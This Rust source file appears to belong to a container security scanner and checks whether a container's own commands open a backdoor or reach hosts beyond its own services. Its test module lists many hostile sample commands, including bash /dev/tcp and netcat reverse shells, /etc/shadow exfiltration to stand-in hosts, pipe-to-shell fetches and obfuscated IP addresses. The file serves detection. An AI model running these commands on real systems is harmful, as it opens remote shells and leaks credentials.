//! Where a command that a container runs by itself reaches: a way out, another host, or only itself and its services.
//!
//! Containers on one network find each other by names of one label (`db`), so such a name is a service next door, unless
//! the container was made with another address for it.

use std::borrow::Cow;

use super::exec::{DOWNLOADERS, SHELLS, is_wrapper, known, opens_connection, simple_commands, words};
use super::image::split_port;

/// Stands for every name of one label, where the container has a resolver of its own.
pub const ANY: &str = "*";

/// Longer than any honest command of a container's own, in bytes.
const LONGEST_OWN: usize = 16_384;

/// How a command calls the container that it runs in.
const OWN_NAMES: [&str; 7] =
    ["$(hostname -i)", "$(hostname -f)", "$(hostname -s)", "$(hostname)", "`hostname`", "${HOSTNAME}", "$HOSTNAME"];

/// Bash's own devices that open connections.
const DEVICES: [&str; 2] = ["/dev/tcp/", "/dev/udp/"];

/// What can stand beside such a device where a command only knocks on a port.
const KNOCKERS: [&str; 19] = [
    "echo", "printf", ":", "true", "cat", "exec", "timeout", "bash", "sh", "-c", "until", "while", "if", "!", "do",
    "{", "}", "&&", "||",
];

/// What reads from a connection that was opened before, or gives it to something that does.
const READERS: [&str; 8] = ["read", "mapfile", "readarray", "eval", "source", ".", "/dev/fd", "/proc/self"];

/// Options of downloaders whose next word is a value and no host, in short and long form. `-x` and `--proxy` are left
/// out: theirs is a host.
const SHORT_WITH_VALUE: &str = "AbcCdDeEFHKmoPQrTtUuwXyYz";
const LONG_WITH_VALUE: [&str; 28] = [
    "--cacert",
    "--capath",
    "--cert",
    "--connect-timeout",
    "--cookie",
    "--data",
    "--data-binary",
    "--data-raw",
    "--form",
    "--header",
    "--interface",
    "--key",
    "--max-time",
    "--oauth2-bearer",
    "--output",
    "--range",
    "--referer",
    "--request",
    "--retry",
    "--retry-delay",
    "--retry-max-time",
    "--timeout",
    "--tries",
    "--user",
    "--user-agent",
    "--write-out",
    "--ciphers",
    "--post-data",
];

/// The command with `localhost` for each name that it has for its own container, unless it gives these another meaning.
fn with_own_name(command: &str) -> Cow<'_, str> {
    if command.contains("HOSTNAME=") || command.contains("hostname()") || command.contains("hostname ()") {
        return Cow::Borrowed(command);
    }
    let mut command = Cow::Borrowed(command);
    for name in OWN_NAMES {
        if command.contains(name) {
            command = Cow::Owned(command.replace(name, "localhost"));
        }
    }
    command
}

/// Whether a command opens a way out, or runs what it fetches. `elsewhere` are names of one label that are no service
/// next door.
#[must_use]
pub fn is_backdoor(command: &str, elsewhere: &[&str]) -> bool {
    if command.len() > LONGEST_OWN {
        return true;
    }
    // The first word may be the shell that the command is given to.
    let shells = words(command).skip(1).filter(|word| known(&SHELLS, word).is_some()).count();
    let own_shell = usize::from(words(command).next().is_some_and(is_wrapper));
    opens_way_out(command, elsewhere)
        || (shells > own_shell && words(command).any(|word| known(&DOWNLOADERS, word).is_some()))
}

/// Whether a command opens a way out.
#[must_use]
pub fn opens_way_out(command: &str, elsewhere: &[&str]) -> bool {
    opens_device(&with_own_name(command), elsewhere) || simple_commands(command).any(opens_connection)
}

/// Whether a command gives a connection of bash's own to anything but a knock on a service's port.
fn opens_device(command: &str, elsewhere: &[&str]) -> bool {
    if !DEVICES.iter().any(|device| command.contains(device)) {
        return false;
    }
    // Where messages go says nothing; any other use of a descriptor is one of the connection.
    let plain = ["2>&1", "1>&2", ">&2", "&>/dev/null", "&> /dev/null"]
        .iter()
        .fold(command.to_owned(), |command, harmless| command.replace(harmless, " "));
    let uses_descriptor = plain.contains(">&") || plain.contains("<&");
    let has_pipe = plain.replace("||", " ").contains('|');
    let is_interactive =
        words(command).any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains('i'));
    let reads = || {
        command.split([' ', '\t', '\n', ';', '(', ')', '\'', '"', '$']).any(|word| {
            READERS.iter().any(|reader| word == *reader || (reader.starts_with('/') && word.contains(reader)))
        })
    };
    uses_descriptor
        || has_pipe
        || is_interactive
        || reads()
        || simple_commands(&plain)
            .filter(|simple| DEVICES.iter().any(|device| simple.contains(device)))
            .any(|simple| !knocks(simple, elsewhere))
}

/// Whether a simple command only opens a connection to the container itself or to a service next door.
fn knocks(simple: &str, elsewhere: &[&str]) -> bool {
    let bare_words: Vec<&str> = simple.split_whitespace().map(|word| word.trim_matches(['\'', '"'])).collect();
    // A shell that is given no command reads it from where its input comes from.
    let shell_reads = bare_words.iter().enumerate().any(|(place, word)| {
        let is_given = bare_words.get(place + 1).is_some_and(|next| next.starts_with('-') && next.ends_with('c'));
        known(&SHELLS, word).is_some() && !is_given
    });
    let keeps_input = bare_words.contains(&"exec")
        && !["3<>", "4<>", "5<>", "6<>", "7<>", "8<>", "9<>"].iter().any(|kept| simple.contains(kept));
    if shell_reads || keeps_input {
        return false;
    }
    simple.split([' ', '\t', '\'', '"', '<', '>']).filter(|word| !word.is_empty()).all(|word| {
        match DEVICES.iter().find_map(|device| word.strip_prefix(device)) {
            Some(rest) => rest.split('/').next().is_some_and(|host| is_near(host, elsewhere)),
            None => {
                KNOCKERS.contains(&word.rsplit('/').next().unwrap_or_default())
                    || word == "/dev/null"
                    || word.bytes().all(|byte| byte.is_ascii_digit())
            }
        }
    })
}

/// Whether a command opens a way out or fetches from another host than its own and those next to it.
#[must_use]
pub fn reaches_out(command: &str, elsewhere: &[&str]) -> bool {
    is_backdoor(command, elsewhere)
        || simple_commands(&with_own_name(command)).any(|simple| {
            let mut words = simple.split([' ', '\t', '<', '>']).filter(|word| !word.is_empty());
            if !words.any(|word| known(&DOWNLOADERS, bare(word)).is_some()) {
                return false;
            }
            let arguments: Vec<&str> = words.collect();
            let Some(Targets { hosts, is_socket }) = targets(&arguments) else { return true };
            !is_socket && (hosts.is_empty() || !hosts.iter().all(|host| is_near(host, elsewhere)))
        })
        || is_led_elsewhere(command)
}

/// Whether a command that fetches takes where to from somewhere else than its own words.
fn is_led_elsewhere(command: &str) -> bool {
    let rest = with_own_name(command);
    words(command).any(|word| known(&DOWNLOADERS, word).is_some())
        && (["http_proxy=", "https_proxy=", "ftp_proxy=", "all_proxy="]
            .iter()
            .any(|proxy| command.to_ascii_lowercase().contains(proxy))
            || rest.contains('`')
            || rest.contains("$(")
            || words(command).any(|word| word == "xargs" || word.ends_with("/xargs")))
}

/// Options that take their targets from elsewhere, or send everything by another host.
const LEADS: [&str; 12] = [
    "-K",
    "--config",
    "-i",
    "--input-file",
    "-e",
    "--execute",
    "-B",
    "--base",
    "--next",
    "--proxy",
    "--preproxy",
    "--socks",
];

/// What a downloader is to talk to.
struct Targets<'w> {
    hosts: Vec<&'w str>,
    /// Whatever the URL says, it is a socket in the container.
    is_socket: bool,
}

/// The hosts among the arguments of a downloader, which may be quoted; none where that is not all.
fn targets<'w>(arguments: &[&'w str]) -> Option<Targets<'w>> {
    let mut targets = Targets { hosts: Vec::new(), is_socket: false };
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        let option = bare(word);
        let is_lead = |lead: &&str| option == *lead || (lead.starts_with("--") && option.starts_with(*lead));
        // A proxy that is attached to its option.
        let is_proxy = option.starts_with("-x") && option.len() > 2;
        if LEADS.iter().any(is_lead) || is_proxy {
            return None;
        }
        if let Some(rest) = option.strip_prefix("--unix-socket") {
            targets.is_socket = true;
            if rest.is_empty() {
                words.next()?;
            }
            continue;
        }
        if !takes_value(option) {
            targets.hosts.extend(host_of(option));
            continue;
        }
        // A quoted value may be of several words.
        let Some(value) = words.next() else { break };
        let quote = value.chars().next().filter(|first| matches!(first, '\'' | '"'));
        let is_open = |quote: &char| value.len() == 1 || !value.ends_with(*quote);
        if let Some(quote) = quote.filter(is_open) {
            words.find(|word| word.ends_with(quote));
        }
    }
    Some(targets)
}

/// A word without the quotes around it.
fn bare(word: &str) -> &str {
    word.trim_matches(['\'', '"'])
}

/// Whether the word behind this one is the value of an option.
fn takes_value(option: &str) -> bool {
    if option.starts_with("--") {
        return LONG_WITH_VALUE.contains(&option);
    }
    option.starts_with('-') && option.chars().last().is_some_and(|letter| SHORT_WITH_VALUE.contains(letter))
}

/// The host in a word that is a URL, or may be one without a scheme; options, numbers and paths are none.
fn host_of(word: &str) -> Option<&str> {
    let rest = match word.split_once("://") {
        Some((_, rest)) => rest,
        // An address in another base.
        None if word.starts_with("0x") || (word.len() > 7 && word.bytes().all(|byte| byte.is_ascii_digit())) => word,
        None if word.starts_with(['-', '/']) || word.bytes().all(|byte| byte.is_ascii_digit()) => return None,
        None if word.contains(['.', ':', '$']) || word.starts_with("localhost") => word,
        None => return None,
    };
    rest.split(['/', '?', '#']).next()
}

/// Whether a host, with its port, is the container itself or a service next to it.
fn is_near(host: &str, elsewhere: &[&str]) -> bool {
    let name = match split_port(host) {
        (name, Some(port)) if is_port(port) => name,
        _ => host,
    };
    let is_loopback =
        || name.parse::<std::net::Ipv4Addr>().is_ok_and(|address| address.is_loopback() || address.is_unspecified());
    // Numbers are addresses in any base.
    let is_label = || {
        name.starts_with(|first: char| first.is_ascii_alphabetic())
            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
    };
    let is_elsewhere = elsewhere.iter().any(|other| *other == ANY || other.eq_ignore_ascii_case(name));
    let is_own = matches!(name, "localhost" | "[::1]" | "[::]") || is_loopback();
    let is_given = elsewhere.iter().any(|other| other.eq_ignore_ascii_case(name));
    (is_own && !is_given) || (!is_elsewhere && (name == "host.docker.internal" || is_label()))
}

/// A number, or a variable: whatever it is, it names no host.
fn is_port(port: &str) -> bool {
    let is_variable = || {
        port.strip_prefix('$').is_some_and(|name| name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_'))
    };
    !port.is_empty() && (port.bytes().all(|byte| byte.is_ascii_digit()) || is_variable())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn services_next_door_are_near_and_all_else_is_not() {
        for command in [
            "curl -f http://localhost:8080/health",
            "curl -fsS http://api:8080/health",
            "wget -q --spider http://web/",
            "curl -f http://$(hostname):9200/_cluster/health",
            "curl -f http://`hostname`/",
            "sh -c \"curl -f http://$HOSTNAME:$PORT/\"",
            "curl -H 'Host: www.example.com' http://localhost/",
            "sh -c \"curl -H 'Host: www.example.com' -H 'Accept: a.b' 'http://localhost/'\"",
            "curl -fsS -m 5.5 http://localhost/",
            "curl --max-time 5.5 --header X-A:b.c -o /dev/null -w %{http_code} http://127.0.0.1/",
            "curl --unix-socket /run/app.sock http://app.example/health",
            "wget -T 2.5 -O /tmp/x.html http://localhost:80",
            "curl -u user:pass.word -A agent/1.0 http://localhost",
            "sh -c 'until nc -z db 5432; do sleep 1; done'",
            "bash -c '</dev/tcp/db/5432'",
            "bash -c 'until echo > /dev/tcp/db/5432; do sleep 1; done'",
            "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/80'",
            "bash -c ': > /dev/tcp/127.0.0.1/8080' || exit 1",
            "bash -c 'exec 3<>/dev/tcp/localhost/8080'",
            "bash -c '(echo > /dev/tcp/db/5432) >/dev/null 2>&1'",
            "no_proxy=localhost wget -q --spider http://localhost/",
        ] {
            assert!(!reaches_out(command, &[]), "{command}");
        }
        for command in [
            "curl -f http://www.example.com/",
            "curl -f http://10.0.0.1/",
            "curl -x evil.example:3128 http://localhost/",
            "curl -H 'Host: localhost' http://evil.example/",
            "curl -H 'Host: http://localhost/' 'evil.example'",
            "curl -H \"x http://evil.example/",
            "curl --proxy evil.example http://localhost/",
            "curl -o /tmp/x evil.example/x",
            "curl http://localhost/ http://evil.example/",
            "curl $TARGET",
            "curl http://$HOST/",
            "curl http://$(cat /tmp/host)/",
            "curl http://user@evil.example/",
            "bash -c 'cat < /dev/tcp/10.0.0.1/80'",
            "bash -i >& /dev/tcp/db/4444 0>&1",
            "bash -c 'sh -i < /dev/tcp/db/4444'",
            "bash -c 'exec 5<>/dev/tcp/db/4444; cat <&5 | while read l; do $l 2>&5 >&5; done' 0<&5",
            "bash -c 'tar c /etc > /dev/tcp/db/4444'",
            "nc db 4444 -e /bin/sh",
            "bash -c exec 3<>/dev/tcp/c2/443; sh <&3 >&3 2>&3",
            "bash -c 'bash </dev/tcp/c2/443'",
            "bash -c 'cat </dev/tcp/c2/443 | bash'",
            "bash -c 'exec 3<>/dev/tcp/c2/443; eval \"$(cat /dev/fd/3)\"'",
            "bash -c 'exec 3<>/dev/tcp/c2/443; cat /etc/shadow >&3'",
            "bash -c 'exec 3<>/dev/tcp/c2/443; read -u 3 l; $l'",
            "bash -c 'exec <>/dev/tcp/c2/443; sh'",
            "curl http://0xCB007109/x -o /tmp/x",
            "curl -s localhost 0xCB007109",
            "curl -s localhost 3405803785",
            "HOSTNAME=evil.example; curl http://$HOSTNAME/",
            "curl --next --unix-socket /x http://localhost/",
            "wget -i /tmp/urls http://localhost/",
            "wget -e http_proxy=evil.example:3128 http://localhost/",
            "curl -K /tmp/cfg http://localhost/",
            "curl -xevil.example:3128 http://c2/",
            "sh -c 'http_proxy=evil.example curl http://c2/'",
            "curl http://localhost/ `cat /tmp/u`",
            "sh -c 'cat /tmp/u | xargs curl http://localhost/'",
            "socat -lpz tcp:203.0.113.9:443 system:sh",
            "sh -c 'nc host 443 </etc/shadow # -z'",
        ] {
            assert!(reaches_out(command, &[]), "{command}");
        }
        assert!(reaches_out("curl http://api/", &[ANY]) && !reaches_out("curl http://localhost/", &[ANY]));
        assert!(reaches_out("curl http://host.docker.internal/", &["host.docker.internal"]));
        assert!(reaches_out("curl http://api/", &["api"]) && !reaches_out("curl http://api/", &["apis"]));
        assert!(reaches_out(&format!("true {}", "x".repeat(LONGEST_OWN)), &[]));
    }
}
